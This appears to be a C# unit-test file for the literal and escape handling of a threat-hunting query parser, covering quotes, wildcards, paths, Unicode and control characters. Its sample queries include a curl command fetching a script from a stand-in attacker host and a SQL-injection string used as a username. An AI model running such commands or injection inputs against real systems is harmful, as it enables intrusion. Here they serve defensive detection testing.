using Osprey.Detection.Hunting;
using Xunit;

namespace Osprey.Detection.Tests.Hunting;

public sealed class LiteralTests : IDisposable
{
    private readonly HuntingTestDatabase _db = HuntingTestDatabase.WithSampleEvents();

    public void Dispose() => _db.Dispose();

    [Fact]
    public void SingleQuotedString_IsAValue()
    {
        Assert.Equal(["e01"], _db.Match("CommandLine = 'curl -s http://evil.example/x.sh -o /tmp/x.sh'"));
    }

    [Fact]
    public void EscapedDoubleQuote_InsideDoubleQuotes_IsLiteral()
    {
        Assert.Equal(["e02"], _db.Match("CommandLine = \"python3 -c \\\"print('100%_done')\\\"\""));
    }

    [Fact]
    public void QuotesOfTheOtherKind_NeedNoEscape()
    {
        Assert.Equal(["e02"], _db.Match("CommandLine CONTAINS '\"print(\\''"));
        Assert.Equal(["e02"], _db.Match("CommandLine CONTAINS \"print('\""));
        Assert.Equal(["e08"], _db.Match("UserName = \"' OR 1=1 --\""));
        Assert.Equal(["e08"], _db.Match("UserName = '\\' OR 1=1 --'"));
    }

    [Fact]
    public void EscapedBackslashes_MatchWindowsPaths()
    {
        Assert.Equal(["e08"], _db.Match(@"ProcessPath = ""C:\\Windows\\System32\\cmd.exe"""));
        Assert.Equal(["e08"], _db.Match(@"ProcessPath CONTAINS ""\\system32\\"""));
        Assert.Equal(["e08"], _db.Match(@"ProcessPath ENDS '\\cmd.exe'"));
        Assert.Equal(["e08"], _db.Match(@"ProcessPath STARTS ""c:\\"""));
    }

    [Fact]
    public void Contains_EscapesLikeWildcards()
    {
        // Unescaped, "0%_r" would also match e11's "100 percent report.txt".
        Assert.Equal(["e10"], _db.Match("FileName CONTAINS \"0%_r\""));
        Assert.Equal(["e02"], _db.Match("CommandLine CONTAINS \"100%_done\""));
    }

    [Fact]
    public void Starts_EscapesLikeWildcards()
    {
        Assert.Empty(_db.Match("FileName STARTS \"100_\""));
        Assert.Empty(_db.Match("FileName STARTS \"%report\""));
        Assert.Equal(["e10"], _db.Match("FileName STARTS \"100%\""));
    }

    [Fact]
    public void Ends_EscapesLikeWildcards()
    {
        Assert.Equal(["e10"], _db.Match("FileName ENDS \"%_report.txt\""));
        Assert.Empty(_db.Match("FileName ENDS \"_.txt\""));
    }

    [Fact]
    public void Equal_TreatsWildcardsLiterally()
    {
        Assert.Empty(_db.Match("FileName = \"100%\""));
        Assert.Equal(["e10"], _db.Match("FileName = \"100%_REPORT.TXT\""));
    }

    [Fact]
    public void NewlineAndTabEscapes_MatchControlCharacters()
    {
        _db.Insert(new EventRow { EventId = "x1", EventType = "ProcessStart", CommandLine = "line1\nline2\tend\r" });
        Assert.Equal(["x1"], _db.Match("CommandLine = \"line1\\nline2\\tend\\r\""));
        Assert.Equal(["x1"], _db.Match("CommandLine CONTAINS '\\n'"));
        Assert.Empty(_db.Match("CommandLine CONTAINS \"line1 line2\""));
    }

    [Fact]
    public void Backslash_InsideLikeValue_IsLiteral()
    {
        _db.Insert(new EventRow { EventId = "x1", EventType = "ProcessStart", CommandLine = @"echo a\%b" });
        _db.Insert(new EventRow { EventId = "x2", EventType = "ProcessStart", CommandLine = "echo a%b" });
        Assert.Equal(["x1"], _db.Match(@"CommandLine CONTAINS ""a\\%b"""));
        Assert.Equal(["x2"], _db.Match(@"CommandLine ENDS "" a%b"""));
    }

    [Fact]
    public void UnicodeValues_MatchExactly()
    {
        Assert.Equal(["e09"], _db.Match("CommandLine CONTAINS \"Привет\""));
        Assert.Equal(["e09"], _db.Match("UserName = \"jürgen\""));
        Assert.Equal(["e09"], _db.Match("CommandLine ENDS \"日本\""));
    }

    [Fact]
    public void IntegerLiteral_OnTextField_ComparesItsDecimalText()
    {
        _db.Insert(new EventRow { EventId = "x1", EventType = "UserLogon", UserName = "1001" });
        Assert.Equal(["x1"], _db.Match("UserName = 1001"));
        Assert.Equal(["x1"], _db.Match("UserName STARTS 10"));
    }

    [Fact]
    public void Parser_DecodesEscapes()
    {
        var parsed = Assert.IsType<ComparisonExpression>(HuntingQueryParser.Parse("A = \"q\\\"s\\'b\\\\n\\nt\\t\""));
        Assert.Equal("q\"s'b\\n\nt\t", Assert.IsType<StringLiteral>(parsed.Value).Value);
    }
}
